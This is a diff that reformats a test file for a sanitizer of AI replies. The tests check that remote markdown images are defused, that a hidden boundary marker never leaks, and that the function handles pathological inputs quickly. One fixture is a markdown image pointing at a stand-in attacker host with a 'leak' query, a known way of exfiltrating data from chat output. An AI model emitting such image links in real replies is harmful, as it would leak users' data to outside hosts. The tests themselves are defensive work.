@@ -30,14 +30,17 @@ describe('a reply', () => {
   });
 
   it('keeps its links when the owner shares them, but shows no remote picture', () => {
-    expect(clean('See https://example.com and [docs](https://example.com/d)', true)).toBe('See https://example.com and [docs](https://example.com/d)');
+    expect(clean('See https://example.com and [docs](https://example.com/d)', true)).toBe(
+      'See https://example.com and [docs](https://example.com/d)',
+    );
     expect(clean('Look: ![a cat](https://evil.example/c.png?leak=1) ![](https://evil.example/d.png)', true)).toBe(
       'Look: [a cat](https://evil.example/c.png?leak=1) [image](https://evil.example/d.png)',
     );
   });
 
   it('never holds the mark of the knowledge blocks, however it arrives', () => {
-    for (const size of [1, 5, 1000]) expect(clean(`The mark is [${BOUNDARY} begin 1] and ${BOUNDARY}.`, true, size)).not.toContain(BOUNDARY);
+    for (const size of [1, 5, 1000])
+      expect(clean(`The mark is [${BOUNDARY} begin 1] and ${BOUNDARY}.`, true, size)).not.toContain(BOUNDARY);
   });
 
   it('holds nothing shaped like a key or token', () => {
@@ -45,7 +48,21 @@ describe('a reply', () => {
   });
 
   it('holds nothing forbidden, however it was cut into pieces', () => {
-    const part = fc.constantFrom('word ', '\n', '[', ']', '(', ')', '!', 'https://example.com/x ', '[text](https://example.com)', '![alt](http://a.example/p.png)', 'www.example.org', BOUNDARY, '. ');
+    const part = fc.constantFrom(
+      'word ',
+      '\n',
+      '[',
+      ']',
+      '(',
+      ')',
+      '!',
+      'https://example.com/x ',
+      '[text](https://example.com)',
+      '![alt](http://a.example/p.png)',
+      'www.example.org',
+      BOUNDARY,
+      '. ',
+    );
     fc.assert(
       fc.property(fc.array(part, { maxLength: 25 }), fc.boolean(), fc.integer({ min: 1, max: 9 }), (parts, shareLinks, size) => {
         const text = parts.join('');
@@ -66,7 +83,15 @@ describe('a reply', () => {
 
   it('is cleaned in time whatever it holds', () => {
     const start = performance.now();
-    for (const text of ['['.repeat(20_000), '![('.repeat(7000), '[a]('.repeat(5000), 'a'.repeat(20_000), 'www.'.repeat(5000), 'h://'.repeat(5000)]) clean(text, false, 50);
+    for (const text of [
+      '['.repeat(20_000),
+      '![('.repeat(7000),
+      '[a]('.repeat(5000),
+      'a'.repeat(20_000),
+      'www.'.repeat(5000),
+      'h://'.repeat(5000),
+    ])
+      clean(text, false, 50);
     expect(performance.now() - start).toBeLessThan(10_000);
   });
 });
